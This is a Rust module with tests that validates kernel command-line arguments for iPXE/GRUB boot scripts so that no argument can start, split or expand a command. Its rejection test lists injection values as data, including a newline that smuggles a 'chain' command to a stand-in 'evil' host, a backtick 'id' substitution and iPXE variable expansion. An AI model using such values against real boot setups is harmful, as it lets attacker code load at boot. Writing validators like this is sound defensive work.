use crate::text::TextError;

checked_text! {
    /// One word of a kernel command line or boot script.
    ///
    /// Printable ASCII without space, quotes, `\`, `` ` `` and `$`, and not one of the words that iPXE takes for the end
    /// of a command (`;`, `&&`, `||`, or anything that begins with `#`). So a word can neither start a second line, nor
    /// be split, nor be expanded by iPXE (`${…}`) or GRUB.
    KernelArg, check_arg
}

fn check_arg(text: &str) -> Result<(), TextError> {
    let good = |b: u8| b.is_ascii_graphic() && !br#""'\`$"#.contains(&b);
    let ends_command = matches!(text, ";" | "&&" | "||" | "&" | "|") || text.starts_with('#');
    if (1..=1024).contains(&text.len()) && text.bytes().all(good) && !ends_command {
        return Ok(());
    }
    Err(TextError::new(
        "a kernel argument",
        text,
        "1 to 1024 printable ASCII characters without spaces, line breaks, quotes, '\\', '`' and '$', \
         not beginning with '#' and not one of ; && ||",
    ))
}

/// Kernel arguments joined by spaces, at most 2047 characters: x86 Linux cuts a longer line without a word
/// (`COMMAND_LINE_SIZE` is 2048 with its final NUL).
#[derive(Clone, Debug, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
#[serde(try_from = "Vec<KernelArg>", into = "Vec<KernelArg>")]
pub struct KernelLine(Vec<KernelArg>);

/// A kernel line that Linux would cut.
#[derive(Clone, Copy, Debug, PartialEq, Eq, thiserror::Error)]
#[error("the kernel line has {length} characters; Linux cuts it after 2047: use fewer or shorter arguments")]
pub struct KernelLineTooLong {
    length: usize,
}

impl KernelLine {
    /// The arguments in order.
    pub fn args(&self) -> &[KernelArg] {
        &self.0
    }
}

impl TryFrom<Vec<KernelArg>> for KernelLine {
    type Error = KernelLineTooLong;

    fn try_from(args: Vec<KernelArg>) -> Result<Self, Self::Error> {
        let length = args.iter().map(|arg| arg.as_str().len() + 1).sum::<usize>().saturating_sub(1);
        if length > 2047 {
            return Err(KernelLineTooLong { length });
        }
        Ok(Self(args))
    }
}

impl From<KernelLine> for Vec<KernelArg> {
    fn from(line: KernelLine) -> Self {
        line.0
    }
}

impl std::fmt::Display for KernelLine {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        for (index, arg) in self.0.iter().enumerate() {
            write!(f, "{}{arg}", if index == 0 { "" } else { " " })?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn takes_what_kernels_take() {
        for good in
            ["quiet", "console=ttyS0,115200n8", "ds=nocloud-net;s=http://10.0.0.1/seed/a_-b/", "a.b=1:2:3"]
        {
            assert!(good.parse::<KernelArg>().is_ok(), "{good}");
        }
    }

    #[test]
    fn a_word_cannot_become_a_command() {
        for bad in [
            "",
            "a b",
            "a\nchain http://evil/",
            "a\rb",
            "a\0",
            "a\tb",
            "\u{1b}[2J",
            "\u{85}",
            "\u{2028}",
            "${net0/mac}",
            "$x",
            "a\"b",
            "a'b",
            "a\\",
            "`id`",
            ";",
            "&&",
            "||",
            "#",
            "#!ipxe",
        ] {
            assert!(bad.parse::<KernelArg>().is_err(), "{bad:?}");
        }
    }

    #[test]
    fn a_line_is_never_cut_by_the_kernel() {
        let arg: KernelArg = "a".repeat(1023).parse().unwrap();
        let fits = KernelLine::try_from(vec![arg.clone(), arg.clone()]).unwrap();
        assert_eq!(fits.to_string().len(), 2047);
        let short: KernelArg = "b".parse().unwrap();
        let error = KernelLine::try_from(vec![arg.clone(), arg, short]).unwrap_err().to_string();
        assert!(error.contains("2049"), "{error}");
    }
}
